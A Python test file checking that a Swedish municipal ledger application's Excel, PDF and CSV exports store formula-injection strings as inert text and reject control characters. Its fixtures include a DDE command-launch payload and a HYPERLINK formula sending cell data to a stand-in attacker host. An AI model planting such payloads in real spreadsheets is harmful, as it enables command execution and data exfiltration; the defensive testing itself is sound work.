"""Exports never run a cell as a formula and never fail on a stored control character."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from openpyxl import load_workbook

from dashboard.cli import render
from portfolio import audit_view
from portfolio import store as core_store
from portfolio.db import write
from portfolio.ledger import exports, tertial_store
from portfolio.ledger.tertial import load_report
from portfolio.periods import Period
from registers.risks import excel
from tests.stored import bracke_t1_2019_review, note_2019

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://angripare.example/?q="&A1,"Klicka")'


def stored_hostile_notes(db) -> None:
    """Values an older version let through, written straight to the tables."""
    with write(db, audited=False):
        tertial_store.upsert_note(
            db,
            year=2019,
            period="T1",
            obj="6674",
            comment=LINK + "\x0b\x00",
            forecast_ore=None,
            user_email="x@gns.example",
            expected_version=None,
        )
        bracke_t1_2019_review(
            db, user_email="x@gns.example", user_name="@SUM(1+1)\x07", comment=CALC + "\x1b"
        )


def party_names(db) -> dict[str, str]:
    return dict(core_store.parties_frame(db).select("code", "name").iter_rows())


def test_the_tertial_workbook_holds_hostile_text_as_text_and_drops_control_characters(seeded):
    stored_hostile_notes(seeded)
    data = exports.report_xlsx(load_report(seeded, 2019, Period.T1), party_names(seeded))
    book = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} är en formel: {cell.value}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                texts.append(cell.value)
    assert LINK in texts
    assert CALC in texts
    assert "@SUM(1+1)" in texts


def test_the_tertial_pdf_renders_with_stored_control_characters(seeded):
    stored_hostile_notes(seeded)
    for fonts in (True, None):
        data = exports.report_pdf(load_report(seeded, 2019, Period.T1), party_names(seeded), fonts=fonts)
        assert data.startswith(b"%PDF")


def test_the_audit_csv_escapes_formulas_for_swedish_excel(seeded):
    frame = pl.DataFrame(
        {"Användare": ["=1+1", "vanlig@gns.example"], "Före": ['{"a": -1}', "-5"], "Id": [1, -2]},
    )
    data = audit_view.csv_export(frame)
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == ["'=1+1", '{"a": -1}', "1"]
    assert rows[2] == ["vanlig@gns.example", "'-5", "-2"]


def test_the_command_line_csv_escapes_text_cells_but_not_numbers():
    rows = [{"code": "=1+1", "name": "@x\x0b", "budget": -219, "note": "-5"}]
    out = render(rows, "csv")
    parsed = list(csv.reader(io.StringIO(out)))
    assert parsed == [["code", "name", "budget", "note"], ["'=1+1", "'@x", "-219", "'-5"]]


def test_the_risk_workbook_keeps_a_stored_control_character_from_breaking_the_export():
    data = excel.write_workbook(
        [{"id": 1, "title": "\x0b=1+1", "status_note": "ok\x00", "owner": "@x"}],
        [{"id": 2, "description": "-2+3", "comment": "+SUM(A1)"}],
    )
    book = load_workbook(io.BytesIO(data))
    sheet = book[excel.RISK_SHEET]
    assert sheet["C2"].value == "=1+1" and sheet["C2"].data_type == "s" and sheet["C2"].quotePrefix
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}"


# --- the tertial writes refuse what the exports would otherwise have to clean -------------------


def test_a_tertial_comment_with_a_control_character_is_refused(seeded):
    from portfolio.errors import InvalidInputError

    with pytest.raises(InvalidInputError) as caught:
        note_2019(seeded, Period.T1, "6674", "Ök\x0bning")
    assert "styrtecken" in caught.value.messages[0] and "6674" in caught.value.messages[0]
    assert tertial_store.get_note(seeded, 2019, "T1", "6674") is None


def test_a_forecast_beyond_the_money_bound_is_refused(seeded):
    from portfolio.errors import InvalidInputError
    from portfolio.money import MAX_ORE

    with pytest.raises(InvalidInputError, match="prognos"):
        note_2019(seeded, Period.T1, "6674", "Ny prognos", MAX_ORE + 1)


def test_a_review_comment_with_a_control_character_is_refused(seeded):
    from portfolio.auth import Role, User
    from portfolio.errors import InvalidInputError
    from portfolio.ledger.tertial import review_report

    ceo = User(id=None, email="kc.bracke@gns.example", name="KC Bräcke", role=Role.KOMMUNCHEF, party="BRACKE")
    with pytest.raises(InvalidInputError, match="styrtecken"):
        review_report(seeded, ceo, year=2019, period=Period.T1, comment="Gr\x00anskat")


def test_a_deviation_threshold_beyond_the_money_bound_is_refused(seeded):
    from portfolio.auth import SYSTEM
    from portfolio.errors import InvalidInputError
    from portfolio.ledger.tertial import set_deviation_threshold
    from portfolio.money import MAX_ORE

    with pytest.raises(InvalidInputError, match="högst"):
        set_deviation_threshold(seeded, SYSTEM, MAX_ORE + 1)
